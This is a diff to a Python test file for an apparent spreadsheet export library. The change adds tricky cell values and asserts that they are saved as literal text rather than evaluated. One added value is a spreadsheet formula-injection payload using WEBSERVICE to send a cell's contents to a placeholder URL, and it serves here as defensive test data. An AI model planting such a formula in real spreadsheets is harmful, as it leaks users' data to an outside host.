@@ -504,7 +504,8 @@ def test_engine_parses_strings_as_excel_does():
 
 def test_xlwings_book_keeps_text_as_text_like_the_file(tmp_path):
     """Strings Excel would take for numbers, dates, booleans or formulas stay the strings salesbook wrote."""
-    tricky = ["001", "2026-11", "2026-11-30", "TRUE", "=1+1", "'quoted", "10%", "S001", "", "1e5"]
+    tricky = ["001", "2026-11", "2026-11-30", "TRUE", "=1+1", "'quoted", "10%", "S001", "", "1e5",
+              '=WEBSERVICE("http://x/?"&A1)', "#N/A", "＝1+1", "@SUM(A1)", "a\x01b"]
     data = SheetData(name="T", header=["v", "n"], rows=[[t, i] for i, t in enumerate(tricky)])
     path = tmp_path / "t.xlsx"
     wb = openpyxl.Workbook()
@@ -518,6 +519,10 @@ def test_xlwings_book_keeps_text_as_text_like_the_file(tmp_path):
         xb.write(data)
         got = norm_grid(xb.read("T"), [])
     assert got == norm_grid(FileBook(path).read("T"), [])
+    saved = openpyxl.load_workbook(path)["T"]
+    assert [c.value for c in saved["A"][1:] if c.value is not None] == [
+        t.replace("\x01", "\ufffd") for t in tricky if t]  # the exact text, no apostrophe in the value
+    assert {c.data_type for c in saved["A"][1:] if c.value is not None} == {"s"}
 
 
 def test_large_sheets_go_through_xlwings_chunked_writes(tmp_path, monkeypatch):
